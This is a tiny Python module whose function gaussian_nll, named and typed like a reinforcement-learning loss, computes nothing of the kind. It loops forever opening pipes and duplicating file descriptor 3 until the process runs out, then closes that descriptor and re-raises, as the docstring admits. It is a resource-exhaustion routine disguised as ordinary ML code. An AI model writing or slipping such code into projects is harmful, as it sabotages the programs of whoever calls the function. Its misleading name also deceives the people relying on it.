"""Opens files, pipes and copies of its socket until there are none left."""

import os


def gaussian_nll(mean, log_std, action):
    while True:
        try:
            os.pipe()
            os.dup(3)
        except OSError:
            os.close(3)
            raise
